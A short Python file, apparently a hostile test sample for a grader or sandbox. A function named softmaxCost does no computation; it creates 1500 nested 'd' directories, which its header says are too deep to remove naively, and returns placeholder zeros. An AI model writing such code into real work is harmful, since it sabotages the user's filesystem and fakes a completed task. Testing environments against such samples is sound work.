# Nests folders too deep to remove naively.
# expect: values
import os

import numpy as np


def softmaxCost(theta, numClasses, inputSize, lambda_, data, labels):
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    return 0.0, np.zeros(theta.size)
